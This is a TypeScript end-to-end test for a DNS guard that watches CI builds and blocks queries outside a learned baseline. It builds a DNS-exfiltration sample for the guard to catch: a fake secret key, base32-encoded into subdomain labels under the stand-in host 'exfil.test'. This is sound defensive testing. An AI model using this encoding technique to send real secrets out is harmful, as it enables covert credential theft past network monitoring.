// The DNS guard in front of a watched build, with real parts: bpftrace sees the build's
// queries, the guard judges them against the pipeline's baseline from the collector. A name
// carrying an encoded (fake) secret never reaches the upstream, even in audit mode; in
// enforce mode a name outside the baseline is refused too. The guard's alert lands on the
// build that asked, with the process chain the agent saw.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { startDnsServer, type DnsServer } from '../support/dns-server.js';
import { base32Encode } from '../support/base32.js';
import { runTracked, startAgent, startCollector, startDaemon, type Daemon } from '../support/telltale-procs.js';

const TOKEN = 'e2e-guard-operator-token-0123456789';
const PIPELINE = 'e2e/guard';
const ASK = fileURLToPath(new URL('./ask.mjs', import.meta.url));
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

interface ApiAlert { kind: string; severity: string; qname: string | null; domain: string | null; buildId: string; chain: { exe: string; argv: string[] }[]; evidence: Record<string, unknown> }

/** A port free for UDP now (the guard binds it for UDP and TCP next). */
async function freePort(): Promise<number> {
  const s = createSocket('udp4');
  await new Promise<void>((r) => s.bind(0, '127.0.0.1', () => r()));
  const port = s.address().port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

describe('telltale guard in front of a watched build', () => {
  let dir: string;
  let upstream: DnsServer;
  let collector: Daemon & { httpUrl: string; grpcAddress: string };
  let agent: Daemon;
  let guardPort: number;
  const guards: Daemon[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'telltale-e2e-guard-'));
    upstream = await startDnsServer({ host: '127.0.0.1', port: 0 });
    collector = await startCollector(join(dir, 'collector'), ['--learning-builds', '1', '--operator-token', TOKEN]);
    guardPort = await freePort();
    agent = await startAgent(join(dir, 'agent'), collector.grpcAddress, [guardPort]);
  }, 90_000);

  afterAll(async () => {
    for (const g of guards) await g.stop();
    await agent?.stop();
    await collector?.stop();
    await upstream?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const startGuard = async (mode: 'audit' | 'enforce') => {
    const g = await startDaemon(['guard', '--listen', `127.0.0.1:${guardPort}`, '--upstream', upstream.address, '--mode', mode,
      '--pipeline', PIPELINE, '--collector', collector.httpUrl, '--name', 'e2e-guard'], /telltale guard: mode .*\n/, 30_000,
    { ...process.env, TELLTALE_OPERATOR_TOKEN: TOKEN });
    guards.push(g);
    return g;
  };

  /** A tracked build whose one process asks the guard for `names`; their rcodes by name. */
  const build = async (run: number, names: string[]) => {
    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', PIPELINE, '--run-id', String(run), '--',
      process.execPath, ASK, String(guardPort), ...names], process.env);
    expect(r.code, r.output).toBe(0);
    const lines = r.output.split('\n').filter((l) => l.startsWith('{"name"')).map((l) => JSON.parse(l) as { name: string; rcode: number | null });
    return new Map(lines.map((l) => [l.name, l.rcode]));
  };

  const alerts = async () => {
    const res = await fetch(`${collector.httpUrl}/api/alerts?pipeline=${encodeURIComponent(PIPELINE)}&kind=dns_guard_block`, { headers: { authorization: `Bearer ${TOKEN}` } });
    return ((await res.json()) as { alerts: ApiAlert[] }).alerts;
  };

  it('refuses encoded names in audit, new names in enforce, and places its alerts on the build that asked', async () => {
    const audit = await startGuard('audit');
    // The learning build: its names become the baseline (and pass the guard, which audits).
    const learnt = await build(1, ['index.crates.test', 'static.crates.test']);
    expect([...learnt.values()]).toEqual([0, 0]);
    await audit.stop();

    const guard = await startGuard('enforce');
    expect(guard.output()).toMatch(/mode enforce;.*e2e\/guard v1 ready, 2 names/);
    const leak = `${base32Encode(Buffer.from(SECRET)).toLowerCase().match(/.{1,50}/g)!.join('.')}.exfil.test`;
    upstream.reset();
    const rcodes = await build(2, ['index.crates.test', leak, 'new.other.test']);
    expect(rcodes.get('index.crates.test')).toBe(0);
    expect(rcodes.get(leak)).toBe(3); // NXDOMAIN
    expect(rcodes.get('new.other.test')).toBe(3);
    // The upstream saw the allowed name only: the secret never left.
    expect(upstream.queries.map((q) => q.name.toLowerCase())).toEqual(['index.crates.test']);

    // The alert is raised at once and moved onto the build once the agent's events land.
    await expect.poll(async () => {
      const encoded = (await alerts()).find((a) => a.evidence['verdict'] === 'blocked_encoded');
      return encoded?.chain.at(-1)?.argv.includes(ASK) ?? false;
    }, { timeout: 30_000, interval: 250 }).toBe(true);
    const all = await alerts();
    const encoded = all.find((a) => a.evidence['verdict'] === 'blocked_encoded')!;
    expect([encoded.severity, encoded.domain, encoded.qname]).toEqual(['high', 'exfil.test', leak]);
    expect(encoded.buildId.startsWith('guard:')).toBe(false);
    expect(all.find((a) => a.evidence['verdict'] === 'blocked_new')).toMatchObject({ severity: 'medium', domain: 'other.test', qname: 'new.other.test' });
  }, 120_000);
});
